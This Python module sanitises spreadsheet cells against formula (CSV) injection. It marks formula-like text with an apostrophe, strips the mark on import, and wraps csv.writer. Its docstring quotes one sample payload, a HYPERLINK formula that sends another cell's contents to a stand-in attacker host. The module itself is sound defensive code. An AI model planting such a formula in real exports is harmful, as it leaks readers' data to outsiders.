"""Cell text safe for spreadsheets (formula injection, OWASP "CSV injection").

Excel and LibreOffice treat a cell that starts with `=`, `+`, `-` or `@` (and, after a tab or a
carriage return, whatever follows) as a formula, so a unit name or a source typed as
`=HYPERLINK("http://evil.example/?d="&B2)` would run in the reader's spreadsheet. Text cells that
look like a formula are written as text; numbers stay numbers (a negative number is a number, not
text).

- CSV has no cell types, so such text gets a leading apostrophe, the convention spreadsheets
  read as "this is text"; the importer removes it again (`unquote`), so an export imports back.
- XLSX cells have a type: such text is stored as a string cell, never as a formula (xlsxwriter:
  `write_string`, or the workbook's `strings_to_formulas` off).
"""

import csv

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
TEXT_MARK = "'"


def looks_like_formula(value) -> bool:
    """True for text a spreadsheet would read as a formula; numbers are never formulas."""
    return isinstance(value, str) and value.startswith(FORMULA_STARTS)


def csv_text(value):
    """The CSV form of one cell: formula-like text gets the text mark, everything else unchanged."""
    return TEXT_MARK + value if looks_like_formula(value) else value


def unquote(text: str) -> str:
    """Undo `csv_text` on a cell read back from a file ntm (or a spreadsheet) exported."""
    if text.startswith(TEXT_MARK) and looks_like_formula(text[1:]):
        return text[1:]
    return text


class SafeCsvWriter:
    """`csv.writer` whose rows pass through `csv_text`: pass numbers as numbers, text as str."""

    def __init__(self, buffer, **options):
        self._writer = csv.writer(buffer, **options)

    def writerow(self, row) -> None:
        self._writer.writerow([csv_text(cell) for cell in row])
